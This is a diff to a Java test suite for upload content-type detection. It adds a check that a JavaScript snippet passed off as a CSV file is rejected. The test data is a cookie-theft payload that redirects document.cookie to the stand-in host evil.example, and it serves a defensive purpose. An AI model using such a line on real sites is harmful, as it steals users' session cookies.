@@ -77,7 +77,7 @@ class ContentTypeDetectionTests {
     }
 
     @Test
-    void markupIsNeverAHarmlessTextWhateverTheDetectorSays() {
+    void markupAndScriptAreNeverAHarmlessTextWhateverTheDetectorSays() {
         ContentTypeDetector naive = new ContentTypeDetector() {
             @Override
             public String detect(byte[] head, int length, String filename) {
@@ -95,6 +95,10 @@ class ContentTypeDetectionTests {
         assertThatThrownBy(() -> upload("ledger.csv", "text/csv", script))
                 .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
                         e -> assertThat(e.detectedType()).isEqualTo("text/html"));
+        byte[] js = "document.location = 'https://evil.example/?' + document.cookie;".getBytes(StandardCharsets.UTF_8);
+        assertThatThrownBy(() -> upload("ledger.csv", "text/csv", js))
+                .isInstanceOfSatisfying(UnsupportedContentTypeException.class,
+                        e -> assertThat(e.detectedType()).isEqualTo("text/javascript"));
         assertThat(upload("ledger.csv", "text/plain", CSV).contentType()).isEqualTo("text/csv");
     }
 
